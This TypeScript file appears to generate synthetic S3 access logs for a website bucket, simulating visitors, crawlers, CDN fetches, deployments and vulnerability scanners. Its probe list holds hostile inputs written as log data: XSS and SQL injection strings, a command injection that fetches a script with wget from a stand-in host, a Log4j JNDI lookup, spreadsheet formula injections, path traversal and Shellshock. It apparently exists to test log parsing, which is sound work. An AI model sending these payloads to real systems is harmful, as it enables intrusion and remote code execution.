import type { Actor, Cast } from './actor.ts';
import { oneOf } from './callers.ts';
import { passingObject, type StoredObject, WEBSITE, websiteObjects } from './objects.ts';
import { byRank, weighted } from './random.ts';
import { between, people, workingHours } from './rhythm.ts';

const REFERRERS = [
  null,
  null,
  'https://www.example.com/',
  'https://www.example.com/blog/',
  'https://search.example.net/?q="release+notes"',
];

/** What happens in the bucket example-website: visitors, crawlers, the CDN, deployments, and scanners looking for holes. */
export function websiteActors({ random, callers, requests }: Cast): Actor[] {
  const objects = websiteObjects(random);
  const popular = weighted(objects, byRank);
  const crawled = weighted(objects, (object) => (object.key.endsWith('.html') || object.key.endsWith('.txt') ? 4 : 1));
  const missing: StoredObject[] = [
    'wp-login.php',
    'apple-touch-icon.png',
    'blog/2025/old-post.html',
    'assets/app.js.map',
  ].map((key) => ({
    bucket: WEBSITE,
    key,
    size_bytes: 0,
    slowness: 1,
  }));

  const visit: Actor = {
    acts: (hour) => 78 * people(hour),
    lines: 5,
    act: () => {
      const visitor = oneOf(callers.visitor, random);
      const referrer = random.pick(REFERRERS);
      return Array.from({ length: random.integer(2, 8) }, () => {
        const object = random.pick(popular);
        const chance = random.next();
        const record =
          chance < 0.03
            ? requests.failed(requests.get(visitor, random.pick(missing)), 404, 'NoSuchKey')
            : chance < 0.17
              ? requests.getUnchanged(visitor, object)
              : requests.get(visitor, object);
        record.referrer = referrer;
        return requests.onWebsite(record);
      });
    },
  };

  const crawl: Actor = {
    acts: (hour) => 22 * between(0, 24, hour),
    lines: 5,
    act: () => {
      const crawler = oneOf(callers.crawler, random);
      return Array.from({ length: 5 }, () => {
        const object = random.pick(crawled);
        const record = random.chance(0.1) ? requests.head(crawler, object) : requests.get(crawler, object);
        return requests.onWebsite(record);
      });
    },
  };

  const distribute: Actor = {
    acts: (hour) => 300 * people(hour),
    lines: 1,
    act: () => {
      const record = requests.get(callers.cloudfront, random.pick(popular));
      if (random.chance(0.002)) return [requests.failed(record, 500, 'InternalError')];
      if (random.chance(0.02))
        return [requests.failed(requests.get(callers.cloudfront, random.pick(missing)), 403, 'AccessDenied')];
      return [record];
    },
  };

  const deploy: Actor = {
    acts: (hour) => 3 * workingHours(8, 16, hour),
    lines: 16,
    act: () => {
      const changed = Array.from({ length: 12 }, () => random.pick(popular));
      return [
        requests.ofBucket(callers.deployment, WEBSITE, 'BUCKET', '?list-type=2&prefix=&encoding-type=url', 31_204),
        ...changed.map((object) => requests.put(callers.deployment, object)),
        ...Array.from({ length: 3 }, () =>
          requests.remove(callers.deployment, passingObject(random, WEBSITE, 'previews', 'html')),
        ),
      ];
    },
  };

  const scan: Actor = {
    acts: (hour) => 16 * between(0, 24, hour),
    lines: 1,
    act: () => {
      const probe = random.pick(PROBES);
      const object = { bucket: WEBSITE, key: probe.key, size_bytes: 0, slowness: 1 };
      const record = requests.failed(
        requests.get(callers.scanner, object),
        probe.status,
        probe.status === 404 ? 'NoSuchKey' : 'AccessDenied',
      );
      record.request_uri = `GET ${probe.target} HTTP/1.1`;
      record.user_agent = probe.user_agent;
      record.referrer = probe.referrer;
      return [probe.status === 404 ? requests.onWebsite(record) : record];
    },
  };

  return [visit, crawl, distribute, deploy, scan];
}

interface Probe {
  /** As the client sent it, quotes and spaces included: S3 logs it so. */
  target: string;
  key: string;
  status: 403 | 404;
  user_agent: string | null;
  referrer: string | null;
}

const probe = (
  target: string,
  key: string,
  status: 403 | 404,
  user_agent: string | null,
  referrer: string | null = null,
): Probe => ({
  target,
  key,
  status,
  user_agent,
  referrer,
});

/** Text that aims at whatever reads it: pages, spreadsheets, terminals, log parsers. */
const PROBES: readonly Probe[] = [
  probe('/.env', '.env', 403, 'python-requests/2.32.5'),
  probe('/.git/config', '.git/config', 403, 'Go-http-client/1.1'),
  probe('/wp-login.php', 'wp-login.php', 404, 'Mozilla/5.0 zgrab/0.x'),
  probe('/"', '"', 403, 'curl/8.11.1', 'quoted "referrer" test'),
  probe('/?q="><script>alert("1")</script>', '', 404, 'Mozilla/5.0 ""quoted browser"', '<img src=x onerror=alert(1)>'),
  probe('/search?q="1" OR "a"="a"--', 'search', 404, `sqlmap/1.9#stable (https://sqlmap.org)`),
  probe('/cgi-bin/test;wget http://203.0.113.66/x.sh', 'cgi-bin/test;wget http://203.0.113.66/x.sh', 403, null),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a probe for Log4j, written as it is sent
  probe('/api/v1/pods', 'api/v1/pods', 403, '${jndi:ldap://203.0.113.66/a}'),
  probe('/reports/', 'reports/', 403, '=HYPERLINK("http://203.0.113.66/","open")'),
  probe('/index.php?page=../../../../etc/passwd', 'index.php', 404, '() { :; }; echo "vulnerable"'),
  probe(
    '/%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E',
    '"><svg/onload=alert(1)>',
    403,
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  ),
  probe('/+cmd%7Ccalc', '+cmd|calc', 403, "-2+3+cmd|' /C calc'!A0"),
];
